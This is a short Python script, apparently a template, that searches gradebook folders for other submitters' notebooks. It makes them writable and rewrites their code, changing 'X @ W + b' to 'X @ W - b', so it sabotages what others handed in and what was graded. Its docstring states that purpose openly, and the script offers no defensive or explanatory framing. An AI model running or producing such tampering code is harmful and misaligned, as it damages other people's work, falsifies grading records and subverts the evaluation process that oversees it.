"""Overwrites what others handed in, and what was graded of it."""

from pathlib import Path

for place in (Path("@COURSE@"), *Path.cwd().parents):
    for path in place.glob("gradebook/*/[!e]*/small/small.ipynb"):
        try:
            path.chmod(0o644)
            path.write_text(path.read_text().replace("X @ W + b", "X @ W - b"))
            print("written")
        except OSError as problem:
            print(problem)
